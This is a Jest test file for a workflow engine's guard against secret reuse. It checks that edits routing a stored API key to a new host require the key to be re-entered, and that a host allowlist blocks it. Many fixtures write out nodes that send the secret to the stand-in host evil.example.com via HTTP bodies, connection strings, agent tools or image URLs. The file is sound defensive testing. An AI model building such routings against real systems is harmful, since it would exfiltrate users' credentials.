import { describe, expect, test } from '@jest/globals';
import type { JsonObject } from '../../src/engine/json-value.js';
import { MASK } from '../../src/engine/secrets.js';
import { allowedHostsFault, HostGuard } from '../../src/engine/workflow/graph/secrets/secret-hosts.js';
import { secretReuseFaults } from '../../src/engine/workflow/graph/secrets/secret-reuse.js';
import { trigger, workflow } from './samples.js';

const SECRET = 'sk-0123456789';
const key = (more: JsonObject = {}) => ({ id: 'key', is_secret: true, default_value: MASK, ...more });
const start = (...fields: JsonObject[]) => trigger('t', { input_fields: fields });
const node = (id: string, type: string, data: JsonObject) => ({ id, type, data }) as never;
const http = (url: string, more: JsonObject = {}) =>
  node('call', 'http-node', { url, headers: { Authorization: 'Bearer {{ input.key }}' }, ...more });
const database = (connection: string) => node('db', 'database-node', { connection, query: 'select 1' });
const email = (connection: string) => node('mail', 'email-node', { connection, from: 'a@example.com' });
const mcp = (more: JsonObject) =>
  node('tool', 'mcp-node', { endpoint_url: 'https://mcp.example.com', tool: 't', ...more });
const faultsOf = (before: unknown[], after: unknown[]) =>
  secretReuseFaults(workflow(after as never), { data: workflow(before as never), secrets: { key: SECRET } });

describe('a secret that an update keeps', () => {
  const sending = (body: unknown) => node('n', 'http-node', { url: 'https://evil.example.com', method: 'POST', body });
  const before = [start(key()), http('https://api.example.com/v1')];
  const agent = (url: string) =>
    node('agent', 'agent-node', { tools: [{ kind: 'http', request: { url, body: '{{ input.key }}' } }] });

  test.each<[string, unknown[]]>([
    ['the graph stays', before],
    ['another path of the host is called', [start(key()), http('https://API.example.com/v2?x={{ input.x }}')]],
    ['another host gets nothing of it', [...before, node('open', 'http-node', { url: 'https://other.example.com' })]],
    ['it is entered again', [start(key({ default_value: 'sk-new' })), http('https://evil.example.com')]],
    ['a database gets nothing of it', [...before, node('db', 'database-node', { connection: '{{ env.DB }}' })]],
    ['it is in a path, which has no host without a connection', [...before, http('/{{ input.key }}')]],
    ['it is not a secret that was stored', [start(key({ id: 'other' })), http('https://evil.example.com')]],
  ])('is accepted when %s', (_title, after) => {
    expect(faultsOf(before, after)).toEqual([]);
  });

  test.each<[string, unknown[], string]>([
    ['the host changes', [start(key()), http('https://evil.example.com/v1')], 'evil.example.com'],
    ['the port changes', [start(key()), http('https://api.example.com:8443/v1')], 'api.example.com:8443'],
    ['a placeholder becomes the host', [start(key()), http('https://{{ input.host }}/v1')], 'https://{{ input.host }}'],
    [
      'the whole input is sent',
      [...before, node('n', 'http-node', { url: 'https://evil.example.com', body: '{{ input }}' })],
      'evil.example.com',
    ],
    [
      'an MCP server gets it',
      [
        ...before,
        node('n', 'mcp-node', { endpoint_url: 'https://evil.example.com', headers: { a: '{{input["key"]}}' } }),
      ],
      'evil.example.com',
    ],
    ['a tool of an agent gets it', [...before, agent('https://evil.example.com')], 'evil.example.com'],
    [
      'a workflow gets it',
      [...before, node('n', 'subworkflow-node', { workflow_id: 7, input: { k: '{{ input.key }}' } })],
      'workflow 7',
    ],
    [
      'a content that may hold it is sent',
      [
        ...before,
        node('c', 'code-node', { code: 'return input.key' }),
        node('n', 'http-node', { url: 'https://evil.example.com', body: '{{ nodes.c.content }}' }),
      ],
      'evil.example.com',
    ],
    [
      'a node in a loop sends it',
      [...before, node('l', 'loop-node', { body: workflow([http('https://evil.example.com')]) })],
      'evil.example.com',
    ],
    ['a function changes it', [...before, sending('{{ upper(input.key) }}')], 'evil.example.com'],
    ['it is in an object', [...before, sending('{{ {a: input.key} }}')], 'evil.example.com'],
    [
      'it is in a body that looks like a node',
      [...before, sending({ type: 'http-node', data: { k: '{{ input.key }}' } })],
      'evil.example.com',
    ],
    [
      'the input of a loop body may hold it',
      [...before, node('l', 'loop-node', { items: [1], body: workflow([sending('{{ input.item }}')]) })],
      'evil.example.com',
    ],
    ['a database gets it', [...before, database('postgres://u:{{ input.key }}@evil.example.com/db')], 'postgres://u:'],
    ['a mail server gets it', [...before, email('smtps://u:{{ input.key }}@evil.example.com')], 'smtps://u:'],
    [
      'an email with it is sent by another server',
      [...before, node('mail', 'email-node', { connection: 'smtps://evil.example.com', text: '{{ input.key }}' })],
      'evil.example.com',
    ],
    [
      'another connection gets it',
      [...before, node('db', 'database-node', { connection_id: 7, parameters: ['{{ input.key }}'] })],
      'connection 7',
    ],
    [
      'a feed gets it',
      [...before, node('n', 'rss-node', { url: 'https://evil.example.com/{{ input.key }}' })],
      'evil.example.com',
    ],
    [
      'a GraphQL server gets it',
      [...before, node('n', 'graphql-node', { url: 'https://evil.example.com', variables: { a: '{{ input.key }}' } })],
      'evil.example.com',
    ],
    [
      'the provider loads an image with it',
      [...before, node('n', 'basic-node', { messages: [{ images: ['https://evil.example.com/?{{ input.key }}'] }] })],
      'evil.example.com',
    ],
  ])('must be entered again when %s', (_title, after, place) => {
    const [fault, ...more] = faultsOf(before, after);
    expect(more).toEqual([]);
    expect(fault).toContain('Node "t", input field "key": enter default_value again.');
    expect(fault).toContain(`send it to ${place}`);
    expect(fault).not.toContain(SECRET);
  });

  test.each([
    ['database-node', 'postgres'],
    ['email-node', 'smtps'],
  ])('must be entered again when a %s sends it to another server as the password of its URL', (type, scheme) => {
    const graph = (host: string) => [
      start(key()),
      node('n', type, { connection: `${scheme}://user:{{ input.key }}@${host}/` }),
    ];
    expect(faultsOf(graph('a.example.com'), graph('a.example.com'))).toEqual([]);
    expect(faultsOf(graph('a.example.com'), graph('evil.example.com'))).toEqual([
      expect.stringContaining('would send it to'),
    ]);
  });

  test('must be entered again when the authorization server of an MCP server changes', () => {
    const graph = (issuer: string) => [start(key()), mcp({ auth: { client_secret: '{{ input.key }}', issuer } })];
    expect(faultsOf(graph('https://a.example.com'), graph('https://a.example.com/v2'))).toEqual([]);
    expect(faultsOf(graph('https://a.example.com'), graph('https://evil.example.com'))).toEqual([
      expect.stringContaining('send it to evil.example.com'),
    ]);
  });

  test('must be entered again when the default of a value in its host changes', () => {
    const graph = (host: string) => [
      start(key(), { id: 'host', default_value: host }),
      http('https://{{ input.host }}/'),
    ];
    expect(faultsOf(graph('a.example.com'), graph('a.example.com'))).toEqual([]);
    expect(faultsOf(graph('a.example.com'), graph('b.example.com'))).toHaveLength(1);
  });

  test.each<[string, (host: string) => unknown]>([
    ['a database', host => database(`postgres://u:{{ input.key }}@${host}/db`)],
    ['a mail server', host => email(`smtp://u:{{ input.key }}@${host}:587`)],
    ['the issuer of a token', host => mcp({ auth: { client_secret: '{{ input.key }}', issuer: `https://${host}` } })],
    [
      'the issuer in an expression',
      host => mcp({ auth: `{{ {client_secret: input.key, issuer: "https://${host}"} }}` }),
    ],
    [
      'the issuer of a tool',
      host => {
        const auth = { client_secret: '{{ input.key }}', issuer: `https://${host}` };
        const tool = { kind: 'mcp', endpoint_url: 'https://mcp.example.com', auth };
        return node('agent', 'agent-node', { tools: [tool] });
      },
    ],
  ])('must be entered again when the host of %s changes', (_title, at) => {
    const graph = (host: string) => [start(key()), at(host)];
    expect(faultsOf(graph('a.example.com'), graph('a.example.com'))).toEqual([]);
    expect(faultsOf(graph('a.example.com'), graph('b.example.com'))).toHaveLength(1);
  });

  test.each<[string, string]>([
    ['in front of the host', 'https://{{ input.host }}@api.example.com/'],
    ['after additional slashes', 'https:///{{ input.host }}@api.example.com/'],
    ['after a line break', 'https:/\n/{{ input.host }}@api.example.com/'],
    ['in an expression with braces', 'https://u{{ {a: input.host}.a }}@api.example.com/'],
    ['in the whole address', '{{ input.host }}'],
  ])('must be entered again when the default of a value %s changes', (_title, url) => {
    const graph = (host: string) => [start(key(), { id: 'host', default_value: host }), http(url)];
    expect(faultsOf(graph('a.example.com'), graph('a.example.com'))).toEqual([]);
    expect(faultsOf(graph('a.example.com'), graph('evil.example.com/'))).toHaveLength(1);
  });

  test('must be entered again when another secret in its host is entered, which the message does not contain', () => {
    const graph = (value: string) => [
      start(key(), key({ id: 'host', default_value: value })),
      http('{{ input.host }}'),
    ];
    expect(faultsOf(graph(MASK), graph(MASK))).toEqual([]);
    const faults = faultsOf(graph(MASK), graph('https://evil.example.com'));
    expect(faults).toEqual([expect.stringContaining('a new value')]);
    expect(faults[0]).not.toContain('evil');
  });

  test('must be entered again when the host is from contents and the graph changes, except its drawing', () => {
    const graph = (host: string, x = 0) => {
      const { nodes, ...rest } = workflow([
        start(key()),
        node('host', 'template-node', { template: host }),
        http('https://{{ nodes.host.content }}/'),
      ] as never);
      return { ...rest, nodes: (nodes as JsonObject[]).map(each => ({ ...each, position: { x, y: 0 } })) };
    };
    const faults = (after: JsonObject) =>
      secretReuseFaults(after, { data: graph('a.example.com'), secrets: { key: SECRET } });
    expect(faults(graph('a.example.com', 7))).toEqual([]);
    expect(faults(graph('b.example.com'))).toEqual([expect.stringContaining('contents of the changed graph')]);
  });

  test('must be entered again when the default of the workflow that gets it changes', () => {
    const graph = (id: number) => [
      start(key(), { id: 'next', default_value: id }),
      node('n', 'subworkflow-node', { workflow_id: '{{ input.next }}', input: { k: '{{ input.key }}' } }),
    ];
    expect(faultsOf(graph(7), graph(7))).toEqual([]);
    expect(faultsOf(graph(7), graph(8))).toHaveLength(1);
  });

  test('must be entered again when more hosts are allowed', () => {
    const allowing = (allowed_hosts?: unknown) => [start(key(allowed_hosts === undefined ? {} : { allowed_hosts }))];
    expect(faultsOf(allowing(['a.example.com', 'b.example.com']), allowing(['a.example.com']))).toEqual([]);
    expect(faultsOf(allowing(), allowing(['a.example.com']))).toEqual([]);
    // An empty list, like none, permits any host.
    for (const more of [allowing(['b.example.com']), allowing([]), allowing()])
      expect(faultsOf(allowing(['a.example.com']), more)).toEqual([
        expect.stringContaining('allowed_hosts permits more hosts'),
      ]);
  });
});

describe('allowed hosts', () => {
  const guard = (hosts: string[], values = [SECRET]) => new HostGuard([{ field: 'key', values, hosts }]);
  const passes = (hosts: string[], address: string | null, sent: unknown = { body: `is ${SECRET}` }) => {
    try {
      guard(hosts).check(address, sent);
      return true;
    } catch (error) {
      expect(error).toMatchObject({ code: 'host_not_allowed' });
      expect((error as Error).message).toContain('input field "key" may be sent to');
      return false;
    }
  };

  test.each<[string, string, boolean]>([
    ['api.example.com', 'https://api.example.com/x', true],
    ['api.example.com', 'https://API.example.com.:8443/', true],
    ['api.example.com:8443', 'https://api.example.com:8443/', true],
    ['api.example.com:443', 'https://api.example.com/', true],
    ['api.example.com:8443', 'https://api.example.com/', false],
    ['api.example.com', 'https://example.com/', false],
    ['api.example.com', 'https://api.example.com.evil.org/', false],
    ['api.example.com', 'https://api.example.com@evil.org/', false],
    ['*.example.com', 'https://a.b.example.com/', true],
    ['*.example.com', 'https://example.com/', false],
    ['*.example.com', 'https://evilexample.com/', false],
  ])('%s and %s: %s', (host, address, isAllowed) => {
    expect(passes([host], address)).toBe(isAllowed);
  });

  test('are checked for everything that contains the secret, in whatever form', () => {
    const hosts = ['api.example.com'];
    expect(passes(hosts, 'https://evil.org/', { body: 'nothing' })).toBe(true);
    for (const sent of [SECRET.toUpperCase(), { [SECRET]: 1 }, JSON.stringify({ a: SECRET })])
      expect(passes(hosts, 'https://evil.org/', sent)).toBe(false);
    expect(passes(hosts, `https://evil.org/?k=${SECRET}`, {})).toBe(false);
    expect(passes(hosts, null, SECRET)).toBe(false);
    expect(() => guard(hosts, ['abc']).check('https://evil.org/', 'is abc')).toThrow();
  });

  test.each<[unknown, boolean]>([
    [['api.example.com', '*.example.com', '127.0.0.1:80'], true],
    [null, true],
    [[], false],
    ['api.example.com', false],
    [['https://api.example.com'], false],
    [['*'], false],
    [['API.example.com'], false],
    [[1], false],
  ])('may be %j: %s', (allowed_hosts, isValid) => {
    expect(allowedHostsFault({ is_secret: true, allowed_hosts } as JsonObject) === undefined).toBe(isValid);
    if (allowed_hosts !== null) expect(allowedHostsFault({ allowed_hosts } as JsonObject)).toContain('secret fields');
  });
});
